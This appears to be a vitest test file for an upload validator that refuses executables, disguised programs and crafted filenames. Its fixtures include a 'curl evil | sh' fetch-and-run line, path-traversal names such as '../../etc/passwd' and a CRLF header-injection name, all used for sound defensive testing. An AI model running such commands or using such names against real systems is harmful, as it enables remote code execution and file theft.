import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ReceivedFile } from '../submission/types.ts';
import { checkFiles, type FileCheckOptions } from './check-files.ts';
import { DEFAULT_DENIED_EXTENSIONS } from './denied-extensions.ts';

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'check-files-test-'));
});
afterEach(async () => {
  await rm(folder, { recursive: true, force: true });
});

const ON: FileCheckOptions = { typeChecks: true, deniedExtensions: new Set(DEFAULT_DENIED_EXTENSIONS) };
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);

async function file(fileName: string, content: Uint8Array | string, type = 'application/octet-stream', rawFileName = fileName) {
  const path = join(folder, String(Math.random()));
  await writeFile(path, content);
  return { fileName, rawFileName, type, size: content.length, path } satisfies ReceivedFile;
}

describe('checkFiles', () => {
  it('accepts ordinary files', async () => {
    const files = [await file('foto.png', PNG, 'image/png'), await file('notas.txt', 'olá'), await file('dados.bin', 'xyz')];
    expect(await checkFiles(files, ON)).toBeUndefined();
  });

  it.each([
    ['setup.exe', 'MZ'],
    ['Fatura.PDF.Exe', 'looks harmless'],
    ['run.bat.', '@echo off'],
    ['install.sh', 'echo'],
    ['macro.vbs', 'x'],
    ['app.jar', 'x'],
  ])('refuses %s by its extension', async (name, content) => {
    expect(await checkFiles([await file(name, content)], ON)).toMatchObject({ status: 400, code: 'file_type_denied', field: 'attachments' });
  });

  it.each([
    ['fatura.pdf', 'MZ\x90\x00'],
    ['foto.jpg', '#!/bin/bash\ncurl evil | sh'],
    ['dados.bin', '\x7fELF\x02'],
  ])('refuses %s whose content is a program whatever its name', async (name, content) => {
    expect(await checkFiles([await file(name, content)], ON)).toMatchObject({ code: 'file_type_denied', message: expect.stringMatching(/programs/) });
  });

  it('refuses a file declared as an image that is not one', async () => {
    const refusal = await checkFiles([await file('foto.png', '<html>', 'image/png')], ON);
    expect(refusal).toMatchObject({ status: 400, code: 'file_not_image', field: 'attachments' });
  });

  it.each(['../../etc/passwd', 'a\r\nContent-Type: text/html', 'nul\u0000.txt', 'C:\\Windows\\win.ini'])(
    'refuses the crafted name %j, with type checks on or off',
    async (raw) => {
      const crafted = await file('safe.txt', 'x', 'text/plain', raw);
      expect(await checkFiles([crafted], ON)).toMatchObject({ code: 'invalid_value', field: 'attachments' });
      expect(await checkFiles([crafted], { ...ON, typeChecks: false })).toMatchObject({ code: 'invalid_value' });
    },
  );

  it('lets every type through with the type checks off, and uses the configured deny list', async () => {
    const files = [await file('setup.exe', 'MZ'), await file('foto.png', '<html>', 'image/png')];
    expect(await checkFiles(files, { ...ON, typeChecks: false })).toBeUndefined();
    expect(await checkFiles([await file('report.docm', 'x')], { typeChecks: true, deniedExtensions: new Set(['docm']) })).toMatchObject({
      code: 'file_type_denied',
    });
    expect(await checkFiles([await file('install.sh', 'echo hi')], { typeChecks: true, deniedExtensions: new Set() })).toBeUndefined();
  });
});
